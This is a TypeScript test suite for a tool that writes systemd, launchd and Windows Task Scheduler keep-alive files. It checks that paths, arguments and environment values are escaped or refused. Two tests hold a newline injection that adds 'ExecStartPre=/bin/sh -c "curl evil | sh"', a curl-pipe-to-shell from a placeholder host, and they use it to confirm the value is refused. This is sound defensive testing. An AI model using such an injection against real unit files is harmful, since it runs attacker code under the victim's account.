// KeepAlive definitions escaped per their formats, for hostile-looking but legitimate values (spaces, $, %,
// quotes, backslashes): systemd units checked by `systemd-analyze verify`, plists and task XML by a real XML
// parser. Values a format cannot carry (newlines, NUL …) are refused with the key named, and the files that
// hold the gateway's environment are owner-only.
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { promisify } from 'node:util';
import { installKeepAlive, type KeepAliveContext } from '../../../../src/main/engine/keepalive/keepalive.js';
import { renderLaunchdPlist, renderSystemdUnit, renderWindowsTaskXml, UnitValueError, type KeepAliveSpec } from '../../../../src/main/engine/keepalive/unit-files.js';
import type { PlatformEnv } from '../../../../src/main/engine/paths.js';
import { defaultSettings } from '../../../../src/main/engine/settings/settings.js';
import type { Runner } from '../../../../src/main/engine/util/exec.js';

const run = promisify(execFile);

function which(bin: string): boolean {
  try {
    execFileSync('sh', ['-c', `command -v ${bin}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
const noVerify = !which('systemd-analyze') && 'systemd-analyze is not installed (Debian: apt-get install systemd); the unit is not verified';
const noPython = !which('python3') && 'python3 is not installed: no XML parser to check the plist / task XML';

const nasty = `it's "quoted" $HOME \${PATH} 100% %h back\\slash`;

function spec(dir: string): KeepAliveSpec {
  // A program path with spaces, $ and % (systemd itself refuses quotes and backslashes in an executable path).
  const program = join(dir, 'bin dir', '$HOME', '100%h', 'openclaw');
  return {
    name: 'clawdoc-gateway',
    program,
    args: ['gateway', 'run', '--port', '18789', '--label', nasty],
    env: { OPENCLAW_STATE_DIR: join(dir, 'state dir', '$x', '%h', '"q"'), SECRET_TOKEN: `a$b%c"d\\e f'g`, OPENCLAW_NO_RESPAWN: '1' },
    logDir: join(dir, 'logs & <more>'),
    workingDir: join(dir, 'work dir', '$x', '%h', `"q"'s`),
  };
}

/** systemd's unquoting (systemd.syntax(7) "Quoting") of one line's words, then %% → % (and $$ → $ for arguments). */
function systemdWords(line: string): string[] {
  const words: string[] = [];
  let i = 0;
  while (i < line.length) {
    while (line[i] === ' ') i++;
    if (i >= line.length) break;
    let w = '';
    const q = line[i] === '"' || line[i] === "'" ? line[i++] : undefined;
    while (i < line.length && (q ? line[i] !== q : line[i] !== ' ')) {
      if (line[i] === '\\') {
        const e = line[++i]!;
        w += ({ n: '\n', t: '\t', '\\': '\\', '"': '"', "'": "'", s: ' ' } as Record<string, string>)[e] ?? assert.fail(`unknown escape \\${e}`);
      } else w += line[i];
      i++;
    }
    if (q) i++;
    words.push(w);
  }
  return words;
}

function directive(unit: string, key: string): string[] {
  return unit.split('\n').filter((l) => l.startsWith(`${key}=`)).map((l) => l.slice(key.length + 1));
}

describe('systemd unit', () => {
  it('passes `systemd-analyze verify` with spaces, $, %, quotes and backslashes in paths, args and env', { skip: noVerify }, async () => {
    const dir = mkdtempSync(join(tmpdir(), 'clawdoc-unit-'));
    const s = spec(dir);
    mkdirSync(dirname(s.program), { recursive: true });
    writeFileSync(s.program, '#!/bin/sh\n');
    chmodSync(s.program, 0o755);
    const unit = renderSystemdUnit(s);
    const file = join(dir, 'clawdoc-gateway.service');
    writeFileSync(file, unit, { mode: 0o600 });
    // The verifier is live here: a quoted WorkingDirectory= (what ClawDoc used to write) fails it.
    const bad = join(dir, 'bad.service');
    writeFileSync(bad, unit.replace(/^WorkingDirectory=.*$/m, `WorkingDirectory="${s.workingDir}"`));
    await assert.rejects(run('systemd-analyze', ['verify', '--man=no', bad]), /WorkingDirectory= path is not absolute/);
    // It also checks that the (unquoted, unescaped) executable exists: a wrong $ or % escape fails here.
    const r = await run('systemd-analyze', ['verify', '--man=no', file]).catch((e: { stderr: string; code: number }) => e);
    assert.equal(r.stderr.split('\n').filter((l) => l.includes('clawdoc-gateway.service')).join('\n'), '', `verify complained:\n${r.stderr}\n--- unit ---\n${unit}`);
  });

  it('escapes per systemd\'s rules: the words it reads back are the values given', () => {
    const s = spec('/srv/x');
    const unit = renderSystemdUnit(s);
    const exec = systemdWords(directive(unit, 'ExecStart')[0]!).map((w) => w.replace(/%%/g, '%'));
    assert.equal(exec[0], s.program, 'the executable: no $ substitution, so no $$');
    assert.deepEqual(exec.slice(1).map((w) => w.replace(/\$\$/g, '$')), s.args, 'arguments: $ doubled, % doubled');
    assert.ok(!/(^|[^$])\$(?!\$)/.test(directive(unit, 'ExecStart')[0]!.replace(/^"[^"]*"/, '')), 'no lone $ left in the arguments');
    const env = directive(unit, 'Environment').map((l) => systemdWords(l)[0]!.replace(/%%/g, '%'));
    assert.deepEqual(env, Object.entries(s.env).map(([k, v]) => `${k}=${v}`), 'Environment=: $ is literal (not doubled), % doubled');
    assert.equal(directive(unit, 'WorkingDirectory')[0]!.replace(/%%/g, '%'), s.workingDir, 'WorkingDirectory=: unquoted, absolute');
  });

  it('refuses what it cannot express, naming the key: newline (directive injection), NUL, bad names, odd executables', () => {
    const s = spec('/srv/x');
    const withEnv = (env: Record<string, string>) => () => renderSystemdUnit({ ...s, env });
    assert.throws(withEnv({ EVIL: 'x\nExecStartPre=/bin/sh -c "curl evil | sh"' }), (e: Error) => e instanceof UnitValueError && /environment variable EVIL/.test(e.message) && /newline/.test(e.message));
    assert.throws(withEnv({ NULLY: 'a\0b' }), /environment variable NULLY.*NUL/);
    assert.throws(withEnv({ 'BAD NAME': 'x' }), /environment variable name "BAD NAME"/);
    assert.throws(withEnv({ 'A=B': 'x' }), /environment variable name/);
    assert.throws(() => renderSystemdUnit({ ...s, args: ['gateway', 'a\nb'] }), /gateway argument 2.*newline/);
    assert.throws(() => renderSystemdUnit({ ...s, workingDir: '/srv/x\n[Service]' }), /working directory.*newline/);
    assert.throws(() => renderSystemdUnit({ ...s, workingDir: 'relative/dir' }), /absolute/);
    assert.throws(() => renderSystemdUnit({ ...s, program: '/opt/my "openclaw"/bin/openclaw' }), /gateway program.*quotes/);
    assert.throws(() => renderSystemdUnit({ ...s, program: '-/bin/openclaw' }), /gateway program/);
  });
});

describe('launchd plist and Windows task XML', () => {
  it('a plist a real parser reads back value for value', { skip: noPython }, () => {
    const s = { ...spec('/Users/ada'), env: { ...spec('/Users/ada').env, CRLF: 'line1\r\nline2', AMP: 'a&b<c>]]>' } };
    const plist = renderLaunchdPlist(s);
    const parsed = JSON.parse(execFileSync('python3', ['-c', 'import plistlib,sys,json; print(json.dumps(plistlib.loads(sys.stdin.buffer.read())))'], { input: plist }).toString()) as Record<string, unknown>;
    assert.deepEqual(parsed.ProgramArguments, [s.program, ...s.args]);
    assert.deepEqual(parsed.EnvironmentVariables, s.env, 'CR, &, <, > and quotes survive');
    assert.equal(parsed.WorkingDirectory, s.workingDir);
    assert.equal(parsed.StandardOutPath, `${s.logDir}/gateway.out.log`);
  });

  it('plist: refuses characters XML cannot carry, naming the key', () => {
    assert.throws(() => renderLaunchdPlist({ ...spec('/Users/ada'), env: { NULLY: 'a\0b' } }), /environment variable NULLY.*NUL/);
    assert.throws(() => renderLaunchdPlist({ ...spec('/Users/ada'), env: { BELL: 'a\u0007b' } }), /environment variable BELL/);
  });

  it('task XML: a real parser reads back the command, arguments and working directory', { skip: noPython }, () => {
    const s: KeepAliveSpec = { ...spec('C:\\Users\\ada'), program: 'C:\\Program Files\\OpenClaw & Co\\openclaw.cmd', args: ['gateway', 'run', '--label', `it's "quoted" <b> & $HOME 100`], workingDir: 'C:\\Users\\ada\\work dir' };
    const xml = renderWindowsTaskXml(s, 'DOMAIN\\ada <admin>');
    const py = 'import sys,json,xml.etree.ElementTree as E; ns={"t":"http://schemas.microsoft.com/windows/2004/02/mit/task"}; r=E.fromstring(sys.stdin.buffer.read().decode().replace(\'encoding="UTF-16"\',"")); print(json.dumps([r.find(p,ns).text for p in ["t:Actions/t:Exec/t:Command","t:Actions/t:Exec/t:Arguments","t:Actions/t:Exec/t:WorkingDirectory","t:Principals/t:Principal/t:UserId"]]))';
    const [command, args, wd, user] = JSON.parse(execFileSync('python3', ['-c', py], { input: xml }).toString()) as string[];
    assert.equal(command, s.program);
    assert.equal(args, `gateway run --label "it's \\"quoted\\" <b> & $HOME 100"`);
    assert.equal(wd, s.workingDir);
    assert.equal(user, 'DOMAIN\\ada <admin>');
  });

  it('task XML: refuses newlines and %VAR% (Task Scheduler expands it, with no escape)', () => {
    const s = spec('C:\\Users\\ada');
    assert.throws(() => renderWindowsTaskXml({ ...s, args: ['gateway', 'a\r\nb'] }, 'ada'), /gateway argument 2.*carriage return/);
    assert.throws(() => renderWindowsTaskXml({ ...s, args: ['gateway', '--x', '%APPDATA%\\x'] }, 'ada'), /gateway argument 3.*expand/);
    assert.doesNotThrow(() => renderWindowsTaskXml({ ...s, args: ['gateway', '100%'] }, 'ada'), 'a single % is literal');
  });
});

describe('install', () => {
  function ctx(env: Record<string, string>): KeepAliveContext & { home: string } {
    const home = mkdtempSync(join(tmpdir(), 'clawdoc-ka2-'));
    const p: PlatformEnv = { platform: 'linux', env: { OPENCLAW_STATE_DIR: join(home, '.openclaw'), PATH: '/usr/bin' }, home };
    const settings = defaultSettings();
    settings.gateway.env = env;
    const runner: Runner = async (file) => ({ code: file === 'openclaw' ? 1 : 0, signal: null, stdout: '', stderr: '', timedOut: false });
    return { settings, platform: p, dataDir: join(home, 'data'), uid: 501, userName: 'ada', run: runner, home };
  }

  it('writes the unit (and the backup of the one it replaces) owner-only: it holds the gateway\'s environment', async () => {
    const c = ctx({ OPENCLAW_GATEWAY_TOKEN: 'tok$en%s' });
    const unit = join(c.home, '.config', 'systemd', 'user', 'clawdoc-gateway.service');
    mkdirSync(dirname(unit), { recursive: true });
    writeFileSync(unit, 'Environment="OLD_TOKEN=x"\n', { mode: 0o644 });
    const result = await installKeepAlive(c);
    assert.equal(result.ok, true);
    assert.equal(statSync(unit).mode & 0o777, 0o600);
    assert.match(readFileSync(unit, 'utf8'), /^Environment="OPENCLAW_GATEWAY_TOKEN=tok\$en%%s"$/m);
    const backup = readdirSync(dirname(unit)).find((f) => f.startsWith('clawdoc-gateway.service.bak-'))!;
    assert.equal(statSync(join(dirname(unit), backup)).mode & 0o777, 0o600);
  });

  it('a gateway.env value with a newline is refused with its key, and nothing is written', async () => {
    const c = ctx({ EVIL: 'x\nExecStartPre=/bin/sh -c "curl evil | sh"' });
    const result = await installKeepAlive(c);
    assert.equal(result.ok, false);
    assert.match(result.steps.at(-1)!.detail, /environment variable EVIL.*newline/);
    assert.equal(existsSync(join(c.home, '.config', 'systemd', 'user', 'clawdoc-gateway.service')), false);
  });
});
